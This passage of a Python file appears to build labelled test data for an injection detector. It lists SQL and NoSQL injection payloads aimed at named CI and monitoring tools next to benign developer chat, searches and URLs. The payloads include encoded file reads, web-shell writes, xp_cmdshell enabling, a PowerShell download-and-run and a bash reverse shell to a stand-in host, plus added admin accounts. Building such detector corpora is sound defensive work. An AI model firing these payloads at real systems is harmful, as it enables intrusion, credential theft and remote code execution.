    jb({"$where": "this.role=='admin'||sleep(5000)"}),
    jb({"user": "admin", "$where": "return true"}),
    jb({"$or": [{"user": "admin"}, {"user": {"$ne": 1}}], "pass": {"$ne": 1}}),
    jb({"$expr": {"$eq": [{"$substrCP": ["$apiToken", 0, 1]}, "a"]}}),
    jb({"$expr": {"$function": {"body": "function(){sleep(5000);return true}", "args": [], "lang": "js"}}}),
    # a dashboard's stats endpoint that runs the client's aggregation pipeline
    jb([{"$lookup": {"from": "users", "localField": "owner", "foreignField": "_id", "as": "u"}},
        {"$project": {"u.services": 1}}]),
    jb([{"$unionWith": {"coll": "users"}}]),
    # a bot's $where built as "this.channel == '" + input + "'"
    "ops' || '1'=='1",
    "x'; return true; var y='",
    "'||this.password.match(/^a/)||'",
    "'; while(true){}; '",
    "0;sleep(5000)",
    # the operator document as one parameter a handler JSON-parses
    '{"$ne":null}',
    '{"$regex":"^ghp_"}',
    '{"$where":"sleep(5000)||1"}',
]

# hex/char encoding: the string hidden as hex, char() or escapes (MySQL, PostgreSQL, SQL Server, Oracle, SQLite,
# H2) so no quote or plain keyword is needed; double URL encoding for a tool that decodes twice
ENCODING: list[Entry] = [
    # Zabbix / Nagios XI / Redmine / MediaWiki (MySQL)
    "' union select load_file(0x2f6574632f7a61626269782f7a61626269785f7365727665722e636f6e66),2-- -",
    "' or username=0x6e6167696f7361646d696e#",
    ("' union select 0x3c3f70687020706173737468727528245f4745545b305d293b3f3e,2 "
     "into outfile '/usr/local/nagiosxi/html/x.php'#"),
    "1 and (select passwd from users where alias=0x41646d696e) like 0x24327925",
    "' or alias=char(65,100,109,105,110)#",
    "' or login=x'61646d696e'#",
    "' or user_name=unhex('57696b695379736f70')#",
    "' or alias=_binary 0x41646d696e#",
    "' or login=0b0110000101100100011011010110100101101110#",
    "1 and user() like concat(char(114,111,111,116),0x25)",
    "';set @s=0x73656c65637420757365722829;prepare q from @s;execute q;#",
    # GitLab / Harbor / AWX (PostgreSQL)
    "' or username=chr(114)||chr(111)||chr(111)||chr(116) --",
    ("' union select pg_read_file(convert_from(decode('2f6574632f6769746c61622f6769746c61622e7262','hex'),"
     "'utf8')),null --"),
    "' or username=$$root$$ --",
    "' or username=E'\\x72\\x6f\\x6f\\x74' --",
    "' or username=U&'\\0072\\006f\\006f\\0074' --",
    "';do $$begin execute convert_from(decode('73656c6563742070675f736c656570283529','hex'),'utf8');end$$;--",
    # Bamboo / SonarQube (SQL Server)
    "';declare @s varchar(99)=0x77616974666f722064656c61792027303a303a3527;exec(@s);--",
    "';declare @c varchar(99)=0x65786563206d61737465722e2e78705f636d647368656c6c202777686f616d6927;exec(@c);--",
    "' or name=char(115)+char(97) --",
    "' or system_user=nchar(115)+nchar(97) --",
    "' union select cast(0x6a656e6b696e73 as varchar),null --",
    # Jira (Oracle)
    "' or user=chr(83)||chr(89)||chr(83) --",
    ("' and (select credential from cwd_user where rownum=1) like "
     "utl_raw.cast_to_varchar2(hextoraw('7b504b43533553327d'))||'%' --"),
    "' or user_name=unistr('\\0061\\0064\\006d\\0069\\006e') --",
    # Gitea / Grafana (SQLite)
    "' or lower_name=cast(x'67697465615f61646d696e' as text) --",
    "' or login=char(97,100,109,105,110) --",
    # Rundeck (H2)
    "' or login=stringdecode('\\u0061dmin') --",
    # Artifactory decodes the path twice: the quote and spaces double URL-encoded
    "%2527%2520or%25201%253D1--%2520-",
    "%27%20union%20select%20null,version()--",
]

# stored-procedure/xp_cmdshell: from the database to the operating system
PROC: list[Entry] = [
    # Bamboo / Bitbucket / SonarQube / TeamCity on SQL Server (Windows build farms)
    "';exec master..xp_cmdshell 'whoami';--",
    "';exec sp_configure 'show advanced options',1;reconfigure;exec sp_configure 'xp_cmdshell',1;reconfigure;--",
    "';exec xp_cmdshell 'powershell -nop -c \"iwr http://oast.example/b.ps1 | iex\"';--",
    "';exec xp_cmdshell 'type C:\\ProgramData\\JetBrains\\TeamCity\\config\\database.properties';--",
    "';exec xp_cmdshell 'net user ci P@ssw0rd1 /add';--",
    ("';declare @o int;exec sp_oacreate 'wscript.shell',@o out;"
     "exec sp_oamethod @o,'run',null,'cmd /c ping oast.example';--"),
    "';exec xp_regread 'HKEY_LOCAL_MACHINE','SYSTEM\\CurrentControlSet\\Services\\MSSQLSERVER','ObjectName';--",
    "';exec sp_addlogin 'ci','P@ssw0rd1';exec sp_addsrvrolemember 'ci','sysadmin';--",
    ("';exec msdb.dbo.sp_add_job @job_name='bamboo-gc';exec msdb.dbo.sp_add_jobstep @job_name='bamboo-gc',"
     "@step_name='s',@subsystem='CMDEXEC',@command='whoami';exec msdb.dbo.sp_start_job 'bamboo-gc';--"),
    "';exec sp_executesql N'exec master..xp_cmdshell ''hostname''';--",
    "';exec sp_execute_external_script @language=N'Python',@script=N'import os;os.system(\"whoami\")';--",
    "1;exec master..xp_cmdshell 'certutil -urlcache -f http://oast.example/a.exe c:\\windows\\temp\\a.exe'--",
    # GitLab / Harbor / AWX / SonarQube (PostgreSQL superuser)
    "';create table cmd_out(t text);copy cmd_out from program 'id';select * from cmd_out;--",
    "';copy (select 1) to program 'bash -c \"bash -i >& /dev/tcp/oast.example/4444 0>&1\"';--",
    ("';create or replace function sys(cstring) returns int as '/lib/x86_64-linux-gnu/libc.so.6','system' "
     "language c strict;select sys('id');--"),
    "';do $$begin execute 'copy (select 1) to program ''curl http://oast.example/h''';end$$;--",
    ("';create extension plpython3u;create function p() returns text as $$import os;"
     "return os.popen('id').read()$$ language plpython3u;select p();--"),
    # Zabbix / Nagios XI (MySQL): a UDF from lib_mysqludf_sys
    "';create function sys_exec returns int soname 'lib_mysqludf_sys.so';select sys_exec('id');-- -",
    "' union select sys_eval('id'),2#",
    # Jira / Bamboo (Oracle)
    ("';begin dbms_scheduler.create_job(job_name=>'J1',job_type=>'EXECUTABLE',job_action=>'/usr/bin/id',"
     "enabled=>true);end;--"),
    "' and (select dbms_java.runjava('oracle/aurora/util/Wrapper /bin/touch /tmp/x') from dual) is not null --",
    ("' and dbms_xmlquery.newcontext('declare pragma autonomous_transaction;begin execute immediate "
     "''grant dba to jira'';commit;end;') is not null --"),
    # Rundeck (H2): a Java alias, a remote script, a JavaScript trigger
    ("';CREATE ALIAS SHELLEXEC AS $$String shellexec(String cmd) throws java.io.IOException { "
     "java.util.Scanner s = new java.util.Scanner(Runtime.getRuntime().exec(cmd).getInputStream())"
     ".useDelimiter(\"\\\\A\"); return s.hasNext() ? s.next() : \"\"; }$$;CALL SHELLEXEC('id');--"),
    "';RUNSCRIPT FROM 'http://oast.example/x.sql';--",
    ("';CREATE TRIGGER T BEFORE SELECT ON INFORMATION_SCHEMA.TABLES AS $$//javascript\n"
     "java.lang.Runtime.getRuntime().exec('id')$$;--"),
    # TeamCity (HSQLDB): static Java methods callable by name
    "';CALL \"java.lang.System.setProperty\"('org.apache.commons.collections.enableUnsafeSerialization','true');--",
    # Gitea / Grafana (SQLite): load a shared library
    "';select load_extension('/tmp/libevil.so');--",
    "' union select load_extension('\\\\oast.example\\e\\x.dll'),1 --",
]

# having/group-by/order-by probing: the sort parameters these tools pass to ORDER BY, column counting, HAVING errors
ORDER: list[Entry] = [
    # Harbor ?sort= and GitLab ?order_by= (PostgreSQL)
    "(case when (select substr(password,1,1) from harbor_user where username='admin')='a' then name else null end)",
    "name,(select 1 from pg_sleep(5))",
    "id desc,(select case when (select admin from users where id=1) then 1 else 1/0 end)",
    "created_at,cast((select encrypted_password from users limit 1) as int)",
    "(select case when current_user='gitlab' then id else updated_at end)",
    # Zabbix sortfield (MySQL)
    "name,(select 1 from (select sleep(5))x)",
    "if((select substr(passwd,1,1) from users limit 1)='$',name,hostid)",
    "rand((select ascii(substr(user(),1,1))>100))",
    "hostid,extractvalue(1,concat(0x7e,(select sessionid from sessions limit 1)))",
    # Redmine ?sort= (MySQL): "subquery returns more than 1 row" as the false branch
    "id desc,(select if(admin=1,1,(select 1 union select 2)) from users where login='admin')",
    # column counting, any tool
    "1 order by 1-- -",
    "' order by 5-- -",
    "1 order by 20#",
    "') order by 3 --",
    "' group by 1,2,3 --",
    "' order by 1,2,3 --",
    # Bamboo / SonarQube (SQL Server): HAVING and GROUP BY errors name the columns
    "' having 1=1 --",
    "' group by users.login having 1=1 --",
    "' group by users.login,users.crypted_password having 1=1 --",
    "1 order by (select case when system_user='sa' then 1 else 1/0 end)",
    "' and 1=(select count(*) from users group by login having login='admin') --",
    # Gitea / Grafana (SQLite)
    "(case when (select substr(passwd,1,1) from user where id=1)='a' then id else name end)",
    "id,(select randomblob(300000000) where (select is_admin from user where id=1)=1)",
    # Jira (Oracle)
    "(case when (select user from dual)='JIRA' then 1 else to_number('x') end)",
    # Nagios XI (MySQL)
    "1 group by 1 having sleep(5)",
    "id,(select count(*) from information_schema.columns a,information_schema.columns b,information_schema.columns c)",
    "username asc,(select 1 from xi_users having count(*)>0 and sleep(5))",
    "1 having 1=1#",
]

# like/between/in operators: guesses and ranges without '=' (MySQL, PostgreSQL, SQL Server, Oracle, SQLite)
OPERATORS: list[Entry] = [
    # Zabbix / Nagios XI (MySQL)
    "' or alias like 'adm%'#",
    "' or passwd like '$2y$%'#",
    "' or ascii(substr(user(),1,1)) between 97 and 122#",
    "1 and (select count(*) from users) in (1,2,3)",
    "' or username regexp '^nagios'#",
    "' or name rlike '^Zabbix'#",
    "1 and user() like 'root@%'",
    "1 and substr(user(),1,1) between 'a' and 'z'",
    # Gitea / Gogs search (LIKE context already open)
    "x%' or 1=1 and '%'='",
    "%' and passwd like 'a%' and '%'='",
    # Jira (PostgreSQL)
    "' or user_name in (select child_name from cwd_membership where parent_name='jira-administrators') --",
    "' or version() ilike '%postgres%' --",
    "' or credential similar to '{PKCS5S2}%' --",
    "' or 1 between 0 and 2 --",
    # GitLab (PostgreSQL)
    "' or exists(select 1 from users where encrypted_password like '$2a$10$%') --",
    "' or 'a' in ('a') --",
    "' or 1 in (select 1) --",
    "' or username not between 'a' and 'a' --",
    # SonarQube / Bamboo (SQL Server)
    "' and system_user not in ('guest') --",
    "' or name like 's[a-z]%' --",
    "' and (select top 1 login from users) like 'a%' --",
    # Jira (Oracle)
    "' and (select user from dual) like 'J%' --",
    "' and regexp_like((select user from dual),'^JIRA') --",
    # Grafana / Drone (SQLite)
    "' and (select 1 from user where login glob 'ad*') --",
    "' or login like '%' --",
    "' and (select user_hash from users limit 1) between 'a' and 'm' --",
    # Harbor (PostgreSQL)
    "' or username in ('admin','root') --",
    "' or (select password from harbor_user where username='admin') like 'a%' --",
]

FAMILIES: list[tuple[str, str, list[Entry]]] = [
    ("sqli", "libinjection-sqli", LIBINJECTION),
    ("sqli", "sql-tautology-boolean", TAUTOLOGY),
    ("sqli", "sql-comment-sequence", COMMENT),
    ("sqli", "union-select", UNION),
    ("sqli", "stacked-queries", STACKED),
    ("sqli", "time-based-blind", TIME),
    ("sqli", "error-based", ERROR),
    ("sqli", "out-of-band", OOB),
    ("sqli", "information-schema-probing", CATALOG),
    ("sqli", "mysql-comment-obfuscation", MYCOMMENT),
    ("sqli", "function-based-probing", FUNCTION),
    ("sqli", "sql-authentication-bypass", AUTH),
    ("sqli", "nosql-injection", NOSQL),
    ("sqli", "hex-char-encoding", ENCODING),
    ("sqli", "stored-procedure-xp-cmdshell", PROC),
    ("sqli", "having-group-order-by-probing", ORDER),
    ("sqli", "like-between-in-operators", OPERATORS),
]
# sub-families with a tool's own form fields written as `name=value&...`, sent unquoted
RAW_KV_SUBS = {"time-based-blind", "error-based", "sql-authentication-bypass", "nosql-injection"}


# ----------------------------------------------------------------------------------------------------------------
# Placements
class _Set(BlindSet):
    prefix = NAME
    families = FAMILIES
    raw_subs = RAW_KV_SUBS
    names = ["q", "filter", "search", "sort", "order_by", "project", "branch", "jql", "groupid", "repo", "query",
             "id"]
    kv_safe = "=&[]._-:/'*$!(),;{}~@^\\"
    raw_places = ("form", "rs-param-name")
    unique = True
    path_forbids = "/?#"
    raw_body_forbids = "&"
    raw_body_pair = True
    xml_controls = "\n\t"


SET = _Set()


def attacks() -> Iterator[dict[str, Any]]:
    return SET.attacks()


# ----------------------------------------------------------------------------------------------------------------
# Benign: the same words, typed innocently (Slack chat and bios of developers, SREs and release managers about
# pipelines, failed builds, dashboards, alerts, tickets and code review; searches for colleagues; links to builds,
# merge requests and dashboards; quoted errors; artifact and report file names; ordinary headers)
CHAT = [
    # pipelines and failed builds
    "main is red again, the integration stage timed out after 60 minutes on runner ci-large-03",
    "retrying the deploy job, looks like a flaky npm registry timeout, not our change",
    "can someone with Maintainer on ops/edge approve MR !842? it only bumps the base image",
    "Jenkins job release-candidate #1187 failed at the 'Publish to Nexus' stage, 401 from the repo",
    "heads up: I'm draining the TeamCity agents in eu-west tonight for the OS patching, builds will queue",
    "the nightly DB migration job prints `ERROR: relation \"ci_builds_metadata\" does not exist` on staging",
    "pipeline yaml tip: `rules: - if: '$CI_COMMIT_BRANCH == \"main\"'` instead of the old only/except block",
    "in the Jenkinsfile we do `sh 'sleep 30 && curl -fsS http://localhost:8080/health'` before the smoke tests",
    "who owns the Drone runner on build-07? it keeps picking up jobs and then OOMs",
    "Argo CD shows the payments app OutOfSync but the diff is only an annotation, ignoring for now",
    "AWX template 'patch-linux' ran against the wrong inventory, it was filtered by group instead of host",
    "Rundeck job 'rotate-logs' finished with status succeeded but nothing was rotated, checking the node filter",
    "Bamboo plan OPS-EDGE-123 is stuck in 'Queued' for 2h, agent capabilities don't match",
    "the Gradle cache key changed after the union of the two build matrices, so every job is cold now",
    "merged the select-all checkbox fix for the runners page, thanks for the review",
    "release 4.12.0 is tagged, changelog draft is in Confluence under Release Notes",
    "please don't force-push to release branches, it drops the approvals in Bitbucket",
    "tests pass locally but fail in CI with `sqlite3.OperationalError: database is locked`",
    # dashboards, alerts and queries pasted between colleagues
    "the p99 panel uses `histogram_quantile(0.99, sum(rate(http_request_duration_seconds_bucket[5m])) by (le))`",
    "alert fired: `sum(rate(http_requests_total{job=\"api\",code=~\"5..\"}[5m])) > 10` for 15m, investigating",
    "LogQL for the gateway errors: `{app=\"gateway\"} |= \"error\" | json | status >= 500`",
    "Kibana query I use for the slow requests: `service.name:checkout AND event.duration > 2000000000`",
    "the Grafana variable is `SELECT hostname FROM hosts WHERE env = '$env' ORDER BY hostname`",
    "Zabbix trigger for disk: `last(/web01/vfs.fs.size[/,pused])>90` and it fired twice overnight",
    "Nagios keeps flapping on check_http for the status page, bumping max_check_attempts to 5",
    "can we drop the old dashboards from the 'Legacy' folder? nobody opened them since March",
    "slow query of the week: `SELECT * FROM builds WHERE status = 'pending' ORDER BY created_at DESC LIMIT 50`, "
    "it needs an index on (status, created_at)",
    "ran `SELECT count(*) FROM ci_pipelines WHERE created_at > now() - interval '1 day'` and got 41k",
    "the report query does a UNION ALL of the two shards and then GROUP BY team, takes about 8s",
    "pg_stat_activity shows an idle in transaction session from the sonar user, killing it",
    "added `HAVING count(*) > 1` to find the duplicate users after the LDAP sync",
    "the SonarQube gate failed on 'SQL injection' hotspot in UserRepository.java, it's a false positive, "
    "we use prepared statements there",
    "remember the mongo query is `db.builds.find({ status: { $ne: \"success\" } }).sort({ finishedAt: -1 })`",
    "the webhook payload has `ref`, `before` and `after`; we only filter on ref == refs/heads/main",
    "JQL for the release board: `project = OPS AND fixVersion = \"4.12\" AND status != Done ORDER BY priority DESC`",
    "the Jira filter `assignee = currentUser() AND resolution = Unresolved` is what my dashboard uses",
    "Redmine query with status 'open' and tracker 'Bug' is saved as 'my open bugs'",
    "mysql slow log shows `SELECT SLEEP(` nowhere, the lag is from the backup job at 02:00",
    "the healthcheck script does `sleep 5` between retries, three retries then it exits 1",
    "DBA said: no `DROP TABLE` in migrations without a ticket, use the rename-then-drop pattern",
    "the exec summary of the incident is in the postmortem doc, timeline and actions are filled in",
    "Terraform plan shows 3 to add, 0 to change, 1 to destroy, the destroy is the old bastion",
    "the helm chart sets `--set image.tag=4.12.0 --set replicaCount=3`, verify before you upgrade",
    "reminder: the --dry-run flag on the cleanup script is on by default now",
    "I'll comment out the flaky test with a link to the ticket, `# TODO(ops-991): re-enable after fix`",
    "the linter wants `-- noqa` style comments gone from the SQL files, we use sqlfluff now",
    "docs say the OR filter in the API is `?labels=bug,urgent` and AND is `?labels[]=bug&labels[]=urgent`",
    "the Artifactory cleanup policy deletes snapshots older than 30 days and not downloaded in 14",
    "Harbor says the image is signed but the replication to the DR registry failed with 'unauthorized'",
    "Gitea mirror of the vendor repo is 3 days behind, the sync cron is disabled",
    "anyone else seeing 'select an option' as the only entry in the environment dropdown on the deploy page?",
    "the error in the build log is `java.sql.SQLSyntaxErrorException: Unknown column 'team_id' in 'where clause'`",
    "stack trace ends in `org.h2.jdbc.JdbcSQLSyntaxErrorException: Table \"RDUSER\" not found` after the upgrade",
    "Grafana says `db query error: pq: column \"time\" does not exist` on the latency panel",
    "the Mattermost bot replies 'command not found' to /deploy, the slash command token rotated",
    # code review
    "nit: prefer `WHERE id IN (%s)` with a generated placeholder list over string formatting here",
    "LGTM, just add a test for the empty filter case and the order_by default",
    "this builds the query with an f-string, please switch to bound parameters before we merge",
    "can you split the migration into add column, backfill, then the NOT NULL constraint?",
    "the `LIKE 'abc%'` search can use the index, the leading wildcard one cannot",
    "approved, but the `1=1` in the query builder is just there so every filter can start with AND, add a comment",
    "why is the union select in the reporting view needed? the second table is empty since 2022",
    "renamed `xp_` prefix in our own procs to `ops_` to stop confusing people with the system ones",
    # bios
    "SRE on the platform team. I keep the CI runners, Grafana and the on-call rotation alive.",
    "Release manager for the mobile and web apps. Ask me about branch cuts and hotfix windows.",
    "Backend developer (Go, PostgreSQL). Currently migrating our jobs from Jenkins to GitLab CI.",
    "DevOps engineer, Kubernetes and Argo CD. Previously a DBA, still can't stop reading query plans.",
    "Build and tooling: Gradle, Bazel, the artifact registry and the dependency bots.",
    "QA automation lead. Owner of the nightly regression suite and its flaky test list.",
    "Security champion for the payments squad; I triage SonarQube and dependency alerts on Mondays.",
    "Data engineer. SQL all day: joins, window functions, and the odd GROUP BY that eats the warehouse.",
    "Monitoring and alerting: Prometheus, Alertmanager, Zabbix for the legacy fleet, Nagios until it dies.",
    "Support engineer, I turn customer tickets into Jira issues and keep the Confluence runbooks up to date.",
    "Tech lead for internal tools: the deploy bot, the on-call bot and the Slack integrations.",
    "Platform intern, learning Terraform and Ansible AWX. Ask me anything about the onboarding wiki.",
]

SEARCHES = [
    "platform team",
    "sre",
    "release manager",
    "ops/edge",
    "gitlab-ci",
    "jenkins admin",
    "grafana",
    "on-call",
    "owner of payments-api",
    "team:infra",
    "Maintainer",
    "Anna O'Brien",
    "D'Souza",
    "build engineer",
    "sonarqube",
    "database reliability",
    "DBA",
    "mobile release",
    "kubernetes",
    "argo cd",
    "QA automation",
    "data engineering",
    "berlin office",
    "security champion",
    "zabbix",
    "select",
    "union",
    "order",
    "dev-tools",
    "nexus",
]

URLS = [
    "https://gitlab.example.com/ops/edge/-/merge_requests/842",
    "https://gitlab.example.com/ops/edge/-/pipelines/118342/failures",
    "https://ci.example.com/job/release-candidate/1187/console",
    "https://ci.example.com/job/platform/job/edge/job/main/lastFailedBuild/testReport/",
    "https://teamcity.example.com/buildConfiguration/Edge_Build/48213?buildTab=log",
    "https://grafana.example.com/d/api-latency/api-latency?orgId=1&var-env=prod&from=now-6h&to=now",
    "https://grafana.example.com/explore?left=%7B%22queries%22%3A%5B%7B%22expr%22%3A%22up%22%7D%5D%7D",
    "https://kibana.example.com/app/discover#/?_a=(query:(language:kuery,query:'service.name:checkout'))",
    "https://jira.example.com/browse/OPS-991",
    "https://jira.example.com/issues/?jql=project%20%3D%20OPS%20AND%20status%20%3D%20Open%20ORDER%20BY%20created",
    "https://confluence.example.com/display/OPS/Release+Checklist",
    "https://sonarqube.example.com/project/issues?id=edge-gateway&resolved=false&types=VULNERABILITY",
    "https://harbor.example.com/harbor/projects/3/repositories/edge%2Fgateway/artifacts-tab",
    "https://redmine.example.com/issues?query_id=12&sort=priority%3Adesc%2Cupdated_on%3Adesc",
    "https://zabbix.example.com/zabbix.php?action=problem.view&filter_severities%5B%5D=4",
]

PROSE = [
    "Build #1187 failed: Could not resolve com.example:edge-client:4.12.0-SNAPSHOT",
    "Error: ORA-00942: table or view does not exist (Bamboo upgrade on the Oracle test instance)",
    "ERROR 1064 (42000): You have an error in your SQL syntax near 'order by created' at line 1",
    "psql: error: connection to server at \"db-ci\" (10.0.4.12), port 5432 failed: too many clients already",
    "Msg 1205: Transaction was deadlocked on lock resources with another process and has been chosen as the victim",
    "find the user who approved the production deploy on 2024-06-18",
    "jenkins agent offline since the weekend, who restarted the controller?",
    "rollback plan: redeploy 4.11.3, then run the down migration for the audit table",
    "customer reports the export drops rows when the project name contains an apostrophe (O'Neil Logistics)",
    "need access to the Grafana 'Payments' folder as editor for the quarterly review",
    "please add the new SRE hire to the ops-oncall group in Jira and the pager schedule",
    "disk usage on the Nexus blob store is at 91%, cleanup task runs Sunday",
    "SELECT permission denied for the reporting user on schema analytics after the role change",
    "merge request template: what changed, why, how it was tested, rollback steps",
    "the nightly backup uses pg_dump --exclude-table-data=audit_log, restore tested last Friday",
    "incident 2024-07: checkout latency, cause was a missing index after the union of two tables",
    "search for runbooks mentioning 'drop old partitions'",
    "who is on call for the database this week?",
    "feature flag cleanup: remove flags older than 90 days and not evaluated in 30",
    "reset the Zabbix Admin password through the documented procedure, not by editing the users table",
    "webhook deliveries to the deploy bot fail with 502 since 09:40 UTC",
    "prometheus rule file has a syntax error at line 42: unexpected character inside braces",
    "access request: read-only on the Artifactory 'libs-release' repository",
    "the Ansible playbook sets `become: true` for the package tasks only",
    "onboarding: clone the repo, run make bootstrap, then make test; ask in #dev-help if it fails",
    "Bitbucket pull request 311 needs two approvals before merge to release/4.12",
    "release freeze starts Thursday 18:00 CET and ends after the Monday go/no-go",
    "the 'sleep' step in the pipeline was a workaround for the registry being slow, remove it",
    "Confluence page 'Database access policy' was updated: no shared accounts, no direct writes on prod",
    "Grafana alert 'Error budget burn' is firing for the search service, 2% budget left",
    "postmortem action item: add a statement_timeout of 30s for the reporting role",
    "Rundeck: add a confirmation option to the 'truncate staging tables' job",
    "the code review bot flags string-built SQL; use the query builder or bound parameters",
    "MediaWiki upgrade to 1.41 scheduled, extensions need a compatibility check",
    "Redmine to Jira migration: statuses mapped, custom fields next",
    "Drone secrets are per repository; the org secret for the registry was removed",
    "the SonarQube quality gate is 80% coverage on new code and no new blocker issues",
    "AWX survey for the patch job asks for hosts, reboot yes/no and a maintenance window",
    "Harbor garbage collection runs at 03:00 and blocks pushes for about ten minutes",
    "GitLab runner registration token is deprecated, use the runner authentication tokens from 16.0 on",
    "TeamCity build chain: compile, unit tests, package, then the deploy to staging",
    "Kibana index pattern for the gateway logs is logs-gateway-*",
    "Nagios notification period for non-critical checks is workhours only",
    "The union rep asked about the on-call compensation policy; HR will answer by Friday",
    "Order of operations for the cutover: freeze writes, final sync, switch DNS, verify, unfreeze",
]

PROFILES = [
    ("Anna O'Brien", "Platform team, Dublin office, 3rd floor"),
    ("Rahul D'Souza", "Release engineering, Bengaluru"),
    ("Jens Müller", "SRE, Berlin, Team Observability"),
    ("Marta Nowak", "QA automation, Kraków"),
    ("Kenji Watanabe", "Build & tooling, Tokyo"),
    ("Lucía Fernández", "DevOps, Madrid - remote"),
    ("Tom Select", "Backend, payments squad, London"),
    ("Sam Union", "Data engineering, Leeds"),
    ("Priya Order", "Support engineering, Pune"),
    ("Chloé Dubois", "Security champion, Paris"),
    ("Olu Adeyemi", "Infrastructure, Lagos hub"),
    ("Erik Lindqvist", "Internal tools, Stockholm"),
    ("Grace Hopper-Li", "Tech lead, platform, 221B Baker Street, London"),
    ("Noah Sleep", "On-call coordinator, Amsterdam"),
    ("Fatima Al-Sayed", "Database reliability, Dubai"),
]

UPLOAD_NAMES = [
    "build-1187-console.log",
    "junit-report-main-118342.xml",
    "edge-gateway-4.12.0.tar.gz",
    "edge-client-4.12.0-SNAPSHOT.jar",
    "sonar-report_2024-06-18.pdf",
    "grafana-dashboard-api-latency.json",
    "zabbix_export_templates.yaml",
    "slow_queries_2024-06.sql",
    "select_pending_builds.sql",
    "migration_0042_drop_old_columns.sql",
    "union_report_q2.csv",
    "order_by_priority_export.csv",
    "release-notes-4.12.md",
    "postmortem-2024-07-checkout-latency.docx",
    "Jenkinsfile.groovy",
    ".gitlab-ci.yml",
    "prometheus-rules-api.yml",
    "ansible-awx-inventory-prod.ini",
    "harbor-replication-error.png",
    "users_export (1).csv",
]

BENIGN_HEADERS = [
    ("Referer", "https://gitlab.example.com/ops/edge/-/merge_requests/842/diffs"),
    ("Referer", "https://grafana.example.com/d/api-latency/api-latency?orgId=1&var-env=prod"),
    ("Referer", "https://jira.example.com/secure/RapidBoard.jspa?rapidView=42&quickFilter=117"),
    ("User-Agent", "GitLab/16.11.1"),
    ("User-Agent", "Grafana/10.4.2"),
    ("User-Agent", "Jenkins/2.452.1"),
    ("User-Agent", "Zabbix 6.4"),
    ("X-Gitlab-Event", "Pipeline Hook"),
    ("X-GitHub-Event", "pull_request"),
    ("X-Request-Id", "9f1c2b7e-4d3a-4b8e-a1f0-6c2d8e9b0a13"),
    ("Accept-Language", "en-GB,en;q=0.9,de;q=0.8"),
    ("Cookie", "session=abc123; sidebar=collapsed; last_project=ops%2Fedge"),
    ("Cookie", "session=abc123; sort=updated_at_desc; per_page=50"),
    ("If-None-Match", "W/\"6c1e-18f0a2c4\""),
]


def benign() -> Iterator[dict[str, Any]]:
    return SET.benign(NAME, CHAT, SEARCHES, URLS, PROSE, PROFILES, UPLOAD_NAMES, BENIGN_HEADERS)


if __name__ == "__main__":
    print_records(attacks(), benign())
